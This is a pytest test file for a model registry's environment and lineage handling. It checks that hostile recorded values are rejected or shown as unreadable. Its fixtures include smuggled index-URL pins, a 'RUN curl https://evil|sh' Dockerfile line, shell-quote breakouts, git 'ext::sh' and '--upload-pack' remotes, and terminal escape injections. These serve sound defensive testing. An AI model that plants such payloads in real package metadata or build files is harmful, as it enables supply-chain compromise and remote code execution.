"""A version's environment and lineage are the logger's word (any contributor, or a
server): what Tether writes from them into files, hints and recipes made to be pasted
or run (each case from a review, replayed; the harm shown the unsafe way)."""

from __future__ import annotations

import contextlib
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from tether import EnvironmentMismatch, InvalidInput, Registry
from tether._environment import capture_environment, export_dockerfile, export_requirements
from tether._environment.record import UNREADABLE, environment_problem, readable_environment
from tether._metadata.schema import versions
from tether._records import VersionValues
from tether.cli import cli

INJECTED = "2.0.0\n--extra-index-url https://evil.example/simple\nevil @ file:///tmp/evil"


def _logged(registry: Registry, tmp_path: Path) -> Any:
    (tmp_path / "w.bin").write_bytes(b"w" * 100)
    return registry.log_model(tmp_path / "w.bin", "m", flavor="files", progress=False)


def _values(version: Any, environment: dict[str, Any], **more: Any) -> VersionValues:
    return VersionValues(manifest=tuple(version.files), flavor=version.flavor, signature=None,
                         input_example=None, params={}, metrics={}, data={},
                         lineage=more.get("lineage", {}), environment=environment, tags={},
                         notes="", author="a")


def _stored(registry: Registry, ref_seq: int, environment: Any, lineage: Any = None) -> None:
    """What an older database, or another writer of it, holds: no commit check ran."""
    changes: dict[str, Any] = {"environment": json.dumps(environment)}
    if lineage is not None:
        changes["lineage"] = json.dumps(lineage)
    with registry.engine.begin() as conn:
        conn.execute(versions.update().where(versions.c.seq == ref_seq).values(**changes))


@pytest.mark.parametrize("change, why", [
    ({"packages": {"numpy": INJECTED}}, "is not a version"),
    ({"packages": {"fastmath": "1.0' --index-url https://evil; touch M; echo '"}},
     "is not a version"),
    ({"packages": {"numpy": 2}}, "is not a version"),
    ({"packages": {"x y": "1.0"}}, "not a distribution name"),
    ({"packages": ["numpy"]}, "packages is not a mapping"),
    ({"python": "3.11-slim\nRUN curl https://evil|sh\n#"}, "python"),
    ({"python": 3.9}, "python"),
    ({"platform": "linux[/nope]"}, "platform"),
    ({"accelerators": "cuda"}, "accelerators"),
    ({"accelerators": [{"kind": "cuda\nRUN x"}]}, "accelerators"),
    ({"requires": ["numpy"]}, "requires"),
])
def test_a_commit_refuses_an_environment_of_the_wrong_kind(
        registry: Registry, tmp_path: Path, change: dict[str, Any], why: str) -> None:
    version = _logged(registry, tmp_path)
    environment = {**version.environment, **change}
    with pytest.raises(InvalidInput, match=rf"values.environment: .*{why}"):
        registry.commit("m", _values(version, environment), None)
    assert environment_problem(capture_environment()) is None  # what logging records


def test_a_stored_hostile_environment_is_read_as_unreadable_and_never_written_out(
        registry: Registry, tmp_path: Path) -> None:
    version = _logged(registry, tmp_path)
    hostile = {**version.environment, "python": "3.11-slim\nRUN curl https://evil|sh\n#",
               "packages": {**version.environment["packages"], "numpy": INJECTED,
                            "fastmath": "1.0' --index-url https://evil; touch M; echo '",
                            "bad name": "1.0"}}
    # The harm: pinned as recorded, the requirements file gets an index and a file URL.
    naive = "\n".join(f"{n}=={v}" for n, v in hostile["packages"].items())
    assert "--extra-index-url https://evil.example/simple" in naive.splitlines()
    assert "evil" not in export_requirements(hostile)  # even given the raw record
    _stored(registry, version.seq, hostile)
    read = registry.get(version.ref).environment
    assert read["packages"]["numpy"] == UNREADABLE == read["python"]
    assert "bad name" not in read["packages"]
    requirements = export_requirements(read)
    assert "evil" not in requirements and "--" not in requirements.replace("# ", "")
    assert "left out" in requirements
    with pytest.raises(InvalidInput, match="is not a release a python image is tagged with"):
        export_dockerfile(read)
    result = CliRunner().invoke(cli, ["--registry", str(registry.location.root), "env",
                                      "export", version.ref, "--full"])
    assert "evil" not in result.output, result.output


def test_an_unreadable_framework_version_is_refused_not_warned(
        registry: Registry, tmp_path: Path) -> None:
    """numpy "1.26.4-custom" (or a number) read as 'other', which strict only warns on:
    a numpy 1 model loaded under numpy 2, and `tether check` said satisfied."""
    version = _logged(registry, tmp_path)
    here = capture_environment()
    for recorded in ("1.26.4-custom", 2):
        _stored(registry, version.seq,
                {**here, "packages": {**here["packages"], "numpy": recorded}})
        with pytest.raises(EnvironmentMismatch, match="numpy"):
            registry.load(version.ref, env_policy="strict")
    # A hint a refused load prints names only pins of their kind, each quoted.
    _stored(registry, version.seq, {**here, "packages": {
        **here["packages"], "numpy": "1.0' --index-url https://evil; touch M; echo '"}})
    with pytest.raises(EnvironmentMismatch) as refused:
        registry.load(version.ref, env_policy="strict")
    assert "evil" not in str(refused.value) and "touch" not in str(refused.value)


@pytest.mark.parametrize("environment", [
    {"accelerators": "cuda"}, {"accelerators": [1, "x"]}, {"packages": ["numpy"]},
    {"packages": {"numpy": 2}}, {"python": 3.9}, "text", [1, 2],
])
def test_an_environment_of_the_wrong_shape_never_crashes_a_load_or_a_check(
        registry: Registry, tmp_path: Path, environment: Any) -> None:
    version = _logged(registry, tmp_path)
    _stored(registry, version.seq, environment)
    read = registry.get(version.ref).environment
    assert read == readable_environment(environment)
    with contextlib.suppress(EnvironmentMismatch):  # refused, with a message: fine
        registry.load(version.ref, env_policy="strict")
    result = CliRunner().invoke(cli, ["--registry", str(registry.location.root), "env",
                                      "diff", version.ref])
    assert result.exit_code in (0, 1) and "Traceback" not in result.output, result.output


def test_env_diff_marks_each_row_with_its_verdict(registry: Registry, tmp_path: Path) -> None:
    """Matched by id() across two calls, every row said "ok", even a refused one."""
    version = _logged(registry, tmp_path)
    here = capture_environment()
    _stored(registry, version.seq, {**here, "python": "2.7.18"})
    result = CliRunner().invoke(cli, ["--registry", str(registry.location.root), "env",
                                      "diff", version.ref])
    row = next(line for line in result.output.splitlines() if line.startswith("python"))
    assert row.rstrip().endswith("REFUSE"), result.output
    assert result.exit_code == 1


def test_the_reproduce_recipe_checks_out_only_a_commit_inside_its_own_clone(
        registry: Registry, tmp_path: Path) -> None:
    """`git clone URL && git checkout C` never entered the clone: a recorded commit '.'
    checked out the reader's own repository, over its uncommitted work."""
    version = _logged(registry, tmp_path)
    work = tmp_path / "mine"
    work.mkdir()
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    (work / "train.py").write_text("v1\n")
    subprocess.run(["git", "-C", str(work), "add", "."], check=True)
    subprocess.run(["git", "-C", str(work), "-c", "user.email=a@b", "-c", "user.name=a",
                    "commit", "-qm", "v1"], check=True)
    (work / "train.py").write_text("v2, not committed\n")
    # The harm, the old way: the recipe's checkout of "." ran where the reader stood.
    subprocess.run(["git", "checkout", "."], cwd=work, check=True, capture_output=True)
    assert (work / "train.py").read_text() == "v1\n"

    _stored(registry, version.seq, version.environment,
            lineage={"git": {"commit": ".", "remote": "https://example.invalid/r.git"}})
    steps = registry.reproduce(version.ref)["steps"]
    assert "not a commit id" in steps[0] and "checkout" not in steps[0]
    commit = "a" * 40
    for remote, clone in (("https://example.invalid/r.git", True), ("--upload-pack=x", False),
                          ("ext::sh -c touch% /tmp/x", False)):
        _stored(registry, version.seq, version.environment,
                lineage={"git": {"commit": commit, "remote": remote}})
        step = registry.reproduce(version.ref)["steps"][0]
        assert step.endswith(f"git checkout --detach {commit}"), step
        assert ("git clone -- " in step and "cd training-code &&" in step) is clone, step


def test_reproduce_prints_a_recorded_platform_as_text(registry: Registry,
                                                      tmp_path: Path) -> None:
    version = _logged(registry, tmp_path)
    with registry.engine.begin() as conn:  # what an older database may hold
        conn.execute(sa.text("UPDATE versions SET environment = :e WHERE seq = :s"),
                     {"e": json.dumps({**version.environment, "platform": "linux[/nope]"}),
                      "s": version.seq})
    result = CliRunner().invoke(cli, ["--registry", str(registry.location.root),
                                      "reproduce", version.ref])
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output


def test_a_gpu_node_with_uuid_visible_devices_still_logs(
        registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Eight GPU UUIDs in CUDA_VISIBLE_DEVICES (as Slurm and device plugins set them) were
    330 characters, past the text limit: every log on such a node was refused."""
    from tether._environment import capture, clear_cache

    uuids = ",".join(f"GPU-{i:08x}-1234-5678-9abc-def012345678" for i in range(8))
    found = [{"kind": "cuda", "driver": "550.54.15", "devices": ["NVIDIA H100 80GB HBM3"] * 8,
              "visible_devices": uuids, "bad key!": "x", "weird": "\x1b[2J"}]
    monkeypatch.setattr(capture, "_accelerators", lambda: [dict(e) for e in found])
    clear_cache()
    try:
        recorded = capture_environment()
        assert recorded["accelerators"] == [{"kind": "cuda", "driver": "550.54.15",
                                             "devices": found[0]["devices"],
                                             "visible_devices": uuids}]
        assert environment_problem(recorded) is None
        version = _logged(registry, tmp_path)
        assert version.environment["accelerators"][0]["visible_devices"] == uuids
    finally:
        clear_cache()


@pytest.mark.parametrize("git, why", [
    ("x", "git is not a mapping"),
    ({"remote": "https://x/r.git\x1b[2J\x1b[32mverified ok"}, "git.remote"),
    ({"commit": "."}, "git.commit"),
    ({"branch": "main\nRUN x"}, "git.branch"),
    ({"dirty": "yes"}, "git.dirty"),
])
def test_a_commit_refuses_git_lineage_of_the_wrong_kind(
        registry: Registry, tmp_path: Path, git: Any, why: str) -> None:
    version = _logged(registry, tmp_path)
    with pytest.raises(InvalidInput, match=rf"values.lineage: {why}"):
        registry.commit("m", _values(version, version.environment,
                                     lineage={"git": git}), None)


@pytest.mark.parametrize("git", [
    "x", [1], {"remote": "https://x/r.git\x1b[2J\x1b]0;owned\x07", "commit": "a" * 40,
               "branch": "[link=https://evil.example]main[/link]", "dirty": "yes"},
])
def test_stored_git_lineage_of_any_shape_is_shown_as_text_and_never_crashes(
        registry: Registry, tmp_path: Path, git: Any) -> None:
    """{"git": "x"} crashed show, reproduce and diff; a remote's escape sequences reached
    the terminal of `tether show` and its markup made a link (a review)."""
    version = _logged(registry, tmp_path)
    _stored(registry, version.seq, version.environment, lineage={"git": git})
    read = registry.get(version.ref).lineage
    assert isinstance(read.get("git", {}), dict)
    root = str(registry.location.root)
    for args in (["show", version.ref], ["reproduce", version.ref],
                 ["diff", version.ref, version.ref]):
        result = CliRunner().invoke(cli, ["--registry", root, *args])
        assert result.exit_code == 0, (args, result.output)
        assert "\x1b" not in result.output and "Traceback" not in result.output
    if isinstance(git, dict):
        shown = CliRunner().invoke(cli, ["--registry", root, "show", version.ref]).output
        assert "(unreadable)" in shown and "[link=" not in shown.replace("\\[link=", "")
